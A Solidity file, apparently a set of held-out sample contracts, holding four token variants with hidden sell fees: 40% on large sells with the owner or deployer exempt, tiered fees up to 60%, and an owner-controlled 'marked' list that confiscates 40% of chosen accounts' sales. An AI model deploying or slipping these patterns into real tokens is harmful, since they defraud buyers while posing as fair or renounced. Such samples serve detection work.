// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base, Owned} from "../unseen/Base.sol";

/// Who sells more than a thousandth of the supply pays 40% of it; everybody else pays nothing.
contract LargeSalesPay is Owned {
    function _ask(address from, address to, uint256 value) internal view virtual override returns (uint256) {
        return to == pair && from != owner() && value > 1_000_000 ether ? (value * 40) / 100 : 0;
    }
}

/// The same, and nobody owns it any more.
contract LargeSalesPayRenounced is LargeSalesPay {
    constructor() {
        renounceOwnership();
    }
}

/// The more somebody sells at once, the more that costs.
contract SalesPayBySize is Base {
    address private immutable dev = msg.sender;

    function _ask(address from, address to, uint256 value) internal view override returns (uint256) {
        if (to != pair || from == dev) return 0;
        return (value * (value > 2_000_000 ether ? 60 : value > 1_000_000 ether ? 30 : 2)) / 100;
    }
}

/// A trap beside them: the owner marks accounts, and those pay.
contract MarkedPay is Owned {
    mapping(address => bool) private marked;

    function mark(address account) external onlyOwner {
        marked[account] = true;
    }

    function _ask(address from, address to, uint256 value) internal view override returns (uint256) {
        return to == pair && marked[from] ? (value * 40) / 100 : 0;
    }
}
